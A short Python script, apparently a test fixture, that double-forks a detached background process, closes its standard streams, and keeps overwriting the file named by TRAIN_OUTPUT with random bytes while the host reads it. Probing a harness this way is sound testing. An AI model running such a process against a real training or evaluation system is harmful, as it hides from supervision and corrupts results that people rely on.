"""Leave a process behind that replaces the output while the host reads it."""

import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.close(fd)
        while True:
            time.sleep(0.3)
            with open(os.environ["TRAIN_OUTPUT"], "r+b") as file:
                file.write(os.urandom(64))
    os._exit(0)
os.wait()
